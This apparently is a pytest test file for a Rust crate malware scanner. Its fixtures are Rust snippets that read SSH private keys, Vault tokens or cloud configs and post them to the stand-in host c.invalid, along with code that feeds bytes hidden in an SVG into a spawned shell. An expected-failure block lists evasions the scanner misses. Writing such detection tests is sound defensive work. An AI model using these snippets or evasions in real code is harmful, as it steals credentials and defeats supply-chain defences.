    "bufreader": """
        use std::io::BufRead; pub fn go() { let f = std::io::BufReader::new(std::fs::File::open(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap()); let mut x = String::new(); for l in f.lines().map_while(Result::ok) { x += &l; } ureq::post("https://c.invalid/k").send_string(&x).ok(); }""",
    "read into buffer": """
        use std::io::Read; pub fn load(b: &mut [u8; 512]) -> usize { std::fs::File::open(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap().read(b).unwrap() } pub fn send(b: &[u8]) { ureq::post("https://c.invalid/").send_bytes(b).ok(); } pub fn go() { let mut b = [0; 512]; let n = load(&mut b); send(&b[..n]); }""",
    "mmap": """
        pub fn go() { let f = std::fs::File::open(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap(); let m = unsafe { memmap2::Mmap::map(&f).unwrap() }; ureq::post("https://c.invalid/").send_bytes(&m).ok(); }""",
}
BLIND = {
    "AsRef own type": """
        struct Place; impl AsRef<std::path::Path> for Place { fn as_ref(&self) -> &std::path::Path { std::path::Path::new("/root/.ssh/id_rsa") } } pub fn go() { let x = std::fs::read_to_string(Place).unwrap(); ureq::post("https://c.invalid/k").send_string(&x).ok(); }""",
    "Into own type": """
        struct Place; impl From<Place> for std::path::PathBuf { fn from(_: Place) -> Self { dirs::home_dir().unwrap().join(".ssh/id_rsa") } } pub fn go() { let p: std::path::PathBuf = Place.into(); let x = std::fs::read_to_string(p).unwrap(); ureq::post("https://c.invalid/k").send_string(&x).ok(); }""",
    "place behind a pattern": """
        pub fn go() { for p in glob::glob(&format!("{}/.ss?/id_*", std::env::var("HOME").unwrap())).unwrap().flatten() { let x = std::fs::read_to_string(p).unwrap(); ureq::post("https://c.invalid/k").send_string(&x).ok(); } }""",
    "map of functions": """
        use std::collections::HashMap; pub fn go() { let mut m: HashMap<&str, fn(std::path::PathBuf) -> std::io::Result<String>> = HashMap::new(); m.insert("a", std::fs::read_to_string); let x = m["a"](dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap(); ureq::post("https://c.invalid/k").send_string(&x).ok(); }""",
}


def verdict(source: str, art: str = "") -> Verdict:
    listed = "".join(f'{one} = "1"\n' for one in DEPENDENCIES)
    manifest = (
        f'[package]\nname = "probe"\nversion = "0.1.0"\nedition = "2021"\n[dependencies]\n{listed}'
    )
    files = {"Cargo.toml": manifest, "src/lib.rs": source, "art.svg": art}
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.GNU_FORMAT) as archive:
        for path, text in files.items():
            info = tarfile.TarInfo(f"probe-0.1.0/{path}")
            info.size = len(text.encode())
            archive.addfile(info, io.BytesIO(text.encode()))
    data = buffer.getvalue()
    digest = hashlib.sha256(data).hexdigest()
    crate = CrateSource(CrateRef("probe", "0.1.0"), digest, data, Origin.FOLDER)
    return analyze(crate, ruleset=RULESET).verdict


@pytest.mark.parametrize("source", NAMES.values(), ids=NAMES)
def test_a_theft_is_seen_whatever_its_calls_are_named_by(source: str) -> None:
    assert verdict(source) is Verdict.BLOCK


@pytest.mark.parametrize("source", BETWEEN.values(), ids=BETWEEN)
def test_a_theft_is_seen_whatever_holds_the_secret_between(source: str) -> None:
    assert verdict(source) is Verdict.BLOCK


def test_an_own_service_inside_hides_no_stranger_outside() -> None:
    source = """
        fn token() -> String {
            let x = std::fs::read_to_string(dirs::home_dir().unwrap().join(".fly/config.yml")).unwrap();
            ureq::get("https://api.fly.io/graphql").set("x-token", "1").call().ok();
            x
        }
        pub fn go() { let n = token().len(); ureq::post("https://c.invalid/k").send_string(&n.to_string()).ok(); }"""
    assert verdict(source) is Verdict.BLOCK


@pytest.mark.parametrize("default", DEFAULTS.values(), ids=DEFAULTS)
def test_the_default_of_a_variable_is_a_host_as_well(default: str) -> None:
    source = f"""
        const DEFAULT: &str = "https://c.invalid";
        pub fn login() {{
            let token = std::fs::read_to_string(dirs::home_dir().unwrap().join(".vault-token")).unwrap();
            let to = std::env::var("VAULT_ADDR").{default};
            ureq::post(&format!("{{to}}/v1")).send_string(&token).ok();
        }}"""
    assert verdict(source) is Verdict.BLOCK


@pytest.mark.xfail(strict=True, reason="places behind conversions and patterns, functions in maps")
@pytest.mark.parametrize("source", BLIND.values(), ids=BLIND)
def test_what_is_not_seen_yet(source: str) -> None:
    assert verdict(source) is Verdict.BLOCK


CHILDREN = {
    "in a local": 'let mut f = shell("sh").unwrap(); f.stdin.take().unwrap().write_all(&b).ok();',
    "in a pattern": 'if let Some(mut f) = shell("sh") { f.stdin.unwrap().write_all(&b).ok(); }',
    "beside its text": 'if let (Some(b), Some(f)) = (Some(b), shell("sh")) { f.stdin.unwrap().write_all(&b).ok(); }',
    "in an arm": 'match (1, shell("sh")) { (_, Some(f)) => { f.stdin.unwrap().write_all(&b).ok(); } _ => {} }',
    "in a closure": 'shell("sh").unwrap().stdin.take().is_some_and(|mut i| i.write_all(&b).is_ok());',
}


@pytest.mark.parametrize("idiom", CHILDREN)
def test_a_shell_that_an_own_function_returns_is_fed_where_it_is_used(idiom: str) -> None:
    code = f"""
use std::{{io::Write, process::{{Child, Command, Stdio}}}};
const ART: &str = include_str!("../art.svg");
fn shell(name: &str) -> Option<Child> {{ Command::new(name).stdin(Stdio::piped()).spawn().ok() }}
pub fn go() {{ let b: Vec<u8> = ART.bytes().map(own_decoder).collect(); {CHILDREN[idiom]} }}
"""
    assert verdict(code, "<svg/>") is Verdict.BLOCK
